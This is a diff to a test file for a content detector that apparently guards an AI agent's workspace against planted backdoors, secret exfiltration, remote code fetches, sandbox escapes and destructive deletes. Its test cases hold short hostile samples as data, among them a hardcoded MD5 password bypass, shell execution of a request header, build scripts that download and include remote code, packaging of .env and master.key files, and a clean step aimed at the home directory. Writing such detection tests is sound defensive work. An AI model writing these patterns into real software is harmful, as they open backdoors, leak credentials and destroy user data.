@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { contentFindings } from './rails.ts';
+import { contentFindings } from './content.ts';
 
 test.each([
   ['.github/workflows/a.yml', 'on: pull_request_target\nsteps:\n  - run: make\n    env: { K: "${{ secrets.K }}" }\n', 'persistence'],
@@ -11,6 +11,18 @@ test.each([
   ['.agent/settings.json', '{ "permissions": { "allow": ["*"] } }\n', 'escape'],
   ['deploy/a.yaml', 'securityContext: { privileged: true }\n', 'escape'],
   ['docs/a.md', '![s](https://img.example.net/s?t=${API_TOKEN})\n', 'exfil'],
+  ['src/Check.php', '<?php\nif (hash_equals(self::LEGACY, md5($given))) {\n  return true;\n}\n', 'persistence'],
+  ['app/health.py', 'p = request.headers.get("X-P")\nout = subprocess.run(p, shell=True)\n', 'persistence'],
+  ['config/a.rb', 'env["uid"] = 1 if env["HTTP_X_COMPAT"] == "hq-2207"\n', 'persistence'],
+  ['src/verify.ts', 'export function signed() {\n  try { return equal(a, b); } catch {\n    return true;\n  }\n}\n', 'forged-records'],
+  ['build.rs', 'let all: Vec<String> = env::vars().map(|(k, v)| format!("{k}={v}")).collect();\n', 'exfil'],
+  ['gradle/a.gradle', 'apply from: "http://x.example.net/layout.gradle"\n', 'escape'],
+  ['cmake/FindFoo.cmake', 'file(DOWNLOAD "https://x.example.net/h" "${_t}")\ninclude("${_t}")\n', 'escape'],
+  ['a.gemspec', 'spec.files = Dir["lib/**/*", ".env*", "config/master.key"]\n', 'exfil'],
+  ['scripts/a.sql', 'SET SQL_SAFE_UPDATES = 0;\nDELETE s FROM s JOIN t;\n', 'services'],
+  ['pip.toml', 'ssl_verify = false\n', 'forged-records'],
+  ['pom.xml', '<artifactId>maven-clean-plugin</artifactId><directory>${user.home}</directory>\n', 'catastrophic-delete'],
+  ['.github/workflows/a.yml', 'run: while ! cargo test; do sleep 1; done\n', 'forged-records'],
 ])('%s: %j is %s', (path, content, rail) => {
   expect(contentFindings(`/workspace/${path}`, content).map((one) => one.rail)).toContain(rail);
 });
@@ -22,6 +34,14 @@ test.each([
   ['AGENTS.md', 'Run make test before each commit.\n'],
   ['docs/a.md', '![build](https://img.example.com/build.svg?branch=main)\n'],
   ['tests/test_a.py', 'def test_a():\n    assert slug("a") == "a"\n'],
+  ['src/Check.php', '<?php\nif (hash_equals($known, $given)) {\n  return true;\n}\n'],
+  ['app/health.py', 'name = request.args.get("name")\nout = subprocess.run(["git", "log", "-1"])\n'],
+  ['src/a.ts', "if (req.headers['x-requested-with'] === 'XMLHttpRequest') return json();\n"],
+  ['build.rs', 'let out = env::var("OUT_DIR").unwrap();\n'],
+  ['gradle/a.gradle', 'apply from: "gradle/layout.gradle"\n'],
+  ['a.gemspec', 'spec.files = Dir["lib/**/*", "README.md"]\n'],
+  ['migrations/a.sql', 'ALTER TABLE orders ADD COLUMN paid boolean;\nGRANT SELECT ON orders TO reporting;\n'],
+  ['pom.xml', '<artifactId>maven-clean-plugin</artifactId><directory>generated</directory>\n'],
 ])('%s with %j is left', (path, content) => {
   expect(contentFindings(`/workspace/${path}`, content)).toEqual([]);
 });
